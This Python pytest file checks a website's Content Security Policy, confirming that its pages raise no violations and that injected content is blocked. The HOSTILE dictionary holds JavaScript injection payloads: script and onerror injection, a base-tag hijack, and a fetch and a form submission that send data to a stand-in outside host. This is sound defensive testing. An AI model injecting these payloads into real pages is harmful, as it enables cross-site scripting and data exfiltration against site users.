"""The pages' Content Security Policy: it forbids nothing that they do, and whatever else might be put into them."""

import pytest

from tests.site.pages import PAGES, PREFIXES, SEARCH, SERVICE, settled, until

LISTEN = "self.broken = []; addEventListener('securitypolicyviolation', (one) => broken.push(one.violatedDirective))"


@pytest.mark.parametrize("language", ["it", "ar"])
def test_no_page_breaks_its_own_policy_or_complains(opened, address, language):
    page = opened("privacy/", service_workers="allow")
    page.add_init_script(LISTEN)
    said = []
    page.on("console", lambda one: said.append(one.text) if one.type in {"error", "warning"} else None)
    for path in PAGES:
        page.goto(address + PREFIXES[language] + path)
        if path == SEARCH:
            settled(page)
        said += page.evaluate("broken")
    assert said == []


HOSTILE = {
    "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), {text: 'self.ran = 1'}))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"self.ran = 1\">')",
    "img-src": "document.body.append(Object.assign(new Image(), {src: 'https://elsewhere.example/pixel.gif'}))",
    "connect-src": "fetch('https://elsewhere.example/?q=secret').catch(Boolean)",
    "form-action": """(() => {
        const form = Object.assign(document.createElement('form'), {action: 'https://elsewhere.example/'})
        document.body.append(form)
        form.submit()
    })()""",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'), {href: 'https://elsewhere.example/'}))",
}


@pytest.mark.parametrize("path", ["", SEARCH, SERVICE])
@pytest.mark.parametrize(("rule", "attack"), HOSTILE.items(), ids=HOSTILE)
def test_what_is_put_into_a_page_does_not_run_nor_reach_anyone(opened, path, rule, attack):
    page, sent = opened(path), []
    page.context.route("https://elsewhere.example/**", lambda route: (sent.append(route.request.url), route.abort()))
    page.evaluate(LISTEN)
    page.evaluate(f"() => {{ {attack} }}")
    until(page, f"broken.includes('{rule}')")
    assert page.evaluate("self.ran") is None
    assert not sent
